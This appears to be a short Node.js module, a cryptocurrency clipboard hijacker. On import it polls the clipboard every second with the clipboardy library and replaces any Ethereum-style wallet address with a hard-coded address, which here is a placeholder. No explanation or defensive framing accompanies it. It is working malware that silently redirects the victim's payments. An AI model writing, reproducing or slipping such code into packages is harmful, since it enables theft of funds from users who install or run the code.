// Wallet addresses in the clipboard are replaced; runs: import
const clipboard = require("clipboardy");
const mine = "0x0000000000000000000000000000000000000001";
setInterval(() => {
  const text = clipboard.readSync();
  if (/^0x[0-9a-f]{40}$/i.test(text)) {
    clipboard.writeSync(text.replace(/^0x[0-9a-f]{40}$/i, mine));
  }
}, 1000);
